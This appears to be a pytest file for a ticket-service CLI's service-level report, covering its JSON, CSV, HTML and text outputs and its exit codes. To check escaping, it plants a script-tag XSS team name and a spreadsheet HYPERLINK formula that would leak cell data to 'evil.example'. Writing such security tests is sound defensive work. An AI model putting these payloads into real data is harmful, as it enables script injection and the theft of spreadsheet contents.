"""``intaked report service-level`` as an operator runs it, over the two-week scenario of
tests/reports/scenario.py: each format's output (JSON the same document as ``build_report``,
CSV one line per group with a formula-like name kept as text, HTML escaping a hostile team
name, text an aligned table with the figures), and wrong usage told with exit code 2."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import Engine

from intaked.cli import main
from intaked.config import settings_from_mapping
from intaked.reports.formats import width
from intaked.reports.service_level import build_report
from intaked.store.engine import make_engine
from intaked.store.migrate import upgrade
from tests.reports.scenario import TICKETS, WEEK2, at, load

HOSTILE = "<script>alert(1)</script>"
WEEK2_ARGS = ["report", "service-level", "--from", "2026-11-09", "--to", "2026-11-15"]


@pytest.fixture
def engine(db_url: str) -> Iterator[Engine]:
    engine = make_engine(db_url)
    upgrade(engine)
    hostile = {"team": HOSTILE, "status": "new", "created_at": at(12, 10), "triage_due_at": at(12, 10, 15)}
    load(engine, {**TICKETS, "X1": hostile})
    yield engine
    engine.dispose()


@pytest.fixture
def config(tmp_path: Path, engine: Engine, db_url: str) -> Path:
    path = tmp_path / "intaked.toml"
    path.write_text(f'[database]\nurl = "{db_url}"\n[logging]\nlevel = "warning"\n', encoding="utf-8")
    return path


def run(config: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> str:
    assert main([*WEEK2_ARGS, "--config", str(config), *extra]) == 0
    return capsys.readouterr().out


def test_json_is_the_report_document(
    engine: Engine, db_url: str, config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    printed = json.loads(run(config, capsys, "--format", "json", "--by", "handler"))
    settings = settings_from_mapping({"database": {"url": db_url}}, environ={})
    assert printed == build_report(engine, settings, *WEEK2, by="handler")
    assert [r["group"] for r in printed["rows"]] == ["(none)", "chen", "lin", "wang"]


def test_csv_has_one_line_per_group_and_the_total(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = list(csv.DictReader(io.StringIO(run(config, capsys, "--format", "csv"))))
    assert [line["group"] for line in lines] == [HOSTILE, "desk", "network", "all"]
    desk = lines[1]
    assert (desk["handled"], desk["on_time"], desk["late"]) == ("5", "3", "2")
    assert (desk["completion_rate"], desk["service_level"], desk["satisfaction_avg"]) == (
        "1.0",
        "0.6",
        "3.6667",
    )
    assert (desk["satisfaction_5"], desk["sla_P3_triage_met"], desk["sla_P3_triage_count"]) == (
        "1",
        "0.6667",
        "3",
    )
    hostile = lines[0]
    assert (
        hostile["handled"] == "1"
        and hostile["completion_rate"] == "0.0"
        and hostile["satisfaction_avg"] == ""
    )
    assert lines[3]["handled"] == "11" and lines[3]["sla_(untriaged)_triage_count"] == "2"


def test_csv_shows_a_name_that_looks_like_a_formula_as_text(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A team name another tool wrote, starting like a spreadsheet formula, is led by an
    apostrophe: opened in a spreadsheet it is text, not a formula that runs."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"desk")'
    engine = make_engine(db_url)
    try:
        formulaic = {
            "team": formula,
            "status": "new",
            "created_at": at(12, 10),
            "triage_due_at": at(12, 10, 15),
        }
        load(engine, {**TICKETS, "F1": formulaic})
    finally:
        engine.dispose()
    path = tmp_path / "formula.toml"
    path.write_text(f'[database]\nurl = "{db_url}"\n[logging]\nlevel = "warning"\n', encoding="utf-8")
    groups = [line["group"] for line in csv.DictReader(io.StringIO(run(path, capsys, "--format", "csv")))]
    assert "'" + formula in groups and formula not in groups
    assert {"desk", "network", "all"} <= set(groups), "other names as they are"


def test_html_is_self_contained_and_escapes_names_from_the_database(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = run(config, capsys, "--format", "html")
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert "<script" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "src=" not in page and "href=" not in page
    assert "<td>desk</td><td>0</td><td>5</td><td>5</td><td>3</td><td>0</td><td>2</td>" in page
    assert "服務水準" in page and "60.0%" in page


def test_text_is_an_aligned_table_with_the_figures(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = run(config, capsys, "--by", "team")
    assert text.startswith("服務水準報表 Service-level report 2026-11-09 .. 2026-11-15 (Asia/Taipei)")
    blocks = text.split("\n\n")
    counts = blocks[1].splitlines()
    assert counts[0] == "服務請求 Service requests"
    assert "前期遺留" in counts[1] and "carried over" in counts[2]
    assert len({width(line) for line in counts[1:]}) == 1  # every line as wide, CJK included
    desk = next(line for line in counts if line.startswith("desk"))
    assert desk.split() == ["desk", "0", "5", "5", "3", "0", "2", "1", "1", "0"]
    rates = blocks[2].splitlines()
    assert "服務水準" in rates[1] and "service level" in rates[2]
    desk = next(line for line in rates if line.startswith("desk"))
    assert desk.split() == ["desk", "100.0%", "0.60", "60.0%", "60.0%", "40.0%", "40.0%", "3", "3.67"]
    assert "未接 missed" in blocks[4] and "33.3%" in blocks[4] and "30.00" in blocks[4]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--from", "2026-11-31", "--to", "2026-12-01"], "'2026-11-31' is not a date"),
        (["--from", "last week", "--to", "2026-12-01"], "is not a date"),
        (["--from", "2026-11-09", "--to", "2026-11-08"], "--to 2026-11-08 is before --from 2026-11-09"),
        (["--from", "2026-11-09", "--to", "2026-11-15", "--by", "site"], "invalid choice: 'site'"),
        (["--from", "2026-11-09", "--to", "2026-11-15", "--format", "pdf"], "invalid choice: 'pdf'"),
    ],
)
def test_wrong_usage_exits_2_with_a_clear_message(
    config: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], message: str
) -> None:
    try:
        code = main(["report", "service-level", "--config", str(config), *arguments])
    except SystemExit as exc:  # argparse's own refusals
        code = int(exc.code or 0)
    assert code == 2
    captured = capsys.readouterr()
    assert message in captured.err and captured.out == ""


def test_a_store_without_its_schema_is_told_and_exits_69(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "empty.toml"
    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "empty.db"}"\n', encoding="utf-8")
    assert main([*WEEK2_ARGS, "--config", str(config)]) == 69
    assert "intaked db upgrade" in capsys.readouterr().err
